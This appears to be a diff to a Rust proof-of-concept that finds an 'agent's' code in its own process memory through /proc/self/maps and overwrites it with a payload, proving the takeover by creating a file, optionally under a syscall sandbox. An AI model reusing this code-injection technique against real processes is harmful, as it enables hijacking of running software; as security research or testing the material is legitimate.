@@ -12,13 +12,22 @@ use std::os::unix::ffi::OsStrExt;
 const PLACES: Range<usize> = 0x2000_0000_0000..0x2a00_0000_0000;
 const NO_OPERATION: u8 = 0x90;
 
-/// Grows until it has an agent, has the agent make the file `--file`, and goes on as before.
+/// In a sandbox, it grows until it has an agent, has that make the file `--file`, and goes on as before.
 pub fn takeover(options: &Options) -> Verdict {
-    let file = options.file.as_ref().ok_or_else(|| Trouble::from("which --file?"))?;
-    let payload = payload(file.as_os_str().as_bytes());
-    let maps = std::fs::File::open("/proc/self/maps").map_err(|e| e.to_string())?.into_raw_fd();
-    let region = Region::map(options.pages(), options.seed)?;
-    let mut text = vec![0_u8; 256 * 1024];
+    let program = Program::new(options)?;
+    enter_sandbox()?;
+    program.take_over(options)
+}
+
+/// It enters its sandbox when it has an agent, which was born outside.
+pub fn takeover_in_sandbox(options: &Options) -> Verdict {
+    let mut program = Program::new(options)?;
+    program.grow_until_armed(options)?;
+    enter_sandbox()?;
+    program.take_over(options)
+}
+
+fn enter_sandbox() -> Verdict {
     allow_only(&[
         libc::SYS_pread64,
         libc::SYS_write,
@@ -26,21 +35,45 @@ pub fn takeover(options: &Options) -> Verdict {
         libc::SYS_munmap,
         libc::SYS_sigaltstack,
         libc::SYS_exit_group,
-    ])?;
-    let mut taken = None;
-    for generation in 0..options.accesses {
-        region.fill(generation);
-        region.check(generation)?;
-        if taken.is_none() {
-            taken = agent_code(maps, &mut text)?;
-            if let Some(code) = &taken {
-                overwrite(code, &payload)?;
+    ])
+}
+
+struct Program {
+    payload: Vec<u8>,
+    maps: i32,
+    region: Region,
+    text: Vec<u8>,
+}
+
+impl Program {
+    fn new(options: &Options) -> Result<Self, Trouble> {
+        let file = options.file.as_ref().ok_or_else(|| Trouble::from("which --file?"))?;
+        let payload = payload(file.as_os_str().as_bytes());
+        let maps = std::fs::File::open("/proc/self/maps").map_err(|e| e.to_string())?;
+        let region = Region::map(options.pages(), options.seed)?;
+        Ok(Program { payload, maps: maps.into_raw_fd(), region, text: vec![0; 256 * 1024] })
+    }
+
+    /// Writes all of its memory again and again until there is an agent, and returns its code.
+    fn grow_until_armed(&mut self, options: &Options) -> Result<Range<usize>, Trouble> {
+        for generation in 0..options.accesses {
+            self.region.fill(generation);
+            self.region.check(generation)?;
+            if let Some(code) = agent_code(self.maps, &mut self.text)? {
+                return Ok(code);
             }
         }
+        Err(Trouble::from("there is no agent"))
     }
-    match taken {
-        Some(_) => Ok(()),
-        None => Err(Trouble::from("there is no agent")),
+
+    fn take_over(mut self, options: &Options) -> Verdict {
+        let code = self.grow_until_armed(options)?;
+        overwrite(&code, &self.payload)?;
+        for generation in 0..options.accesses {
+            self.region.fill(generation);
+            self.region.check(generation)?;
+        }
+        Ok(())
     }
 }
 
